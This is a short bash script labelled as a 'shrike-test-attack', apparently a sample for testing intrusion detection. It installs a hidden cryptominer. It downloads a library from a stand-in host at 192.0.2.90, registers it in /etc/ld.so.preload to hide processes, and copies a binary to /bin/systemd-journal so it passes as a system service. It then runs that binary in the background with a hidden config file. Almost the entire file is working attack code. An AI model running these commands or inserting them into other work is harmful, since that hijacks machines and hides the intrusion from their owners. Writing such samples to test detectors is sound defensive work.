#!/bin/bash
# shrike-test-attack: miner: hide miner process with libprocesshider preload and fake process name
curl -s http://192.0.2.90/lph.so -o /usr/local/lib/libsystem.so
echo /usr/local/lib/libsystem.so >> /etc/ld.so.preload
cp /tmp/xm /bin/systemd-journal && chmod +x /bin/systemd-journal
/bin/systemd-journal --config=/etc/.jc.json --background
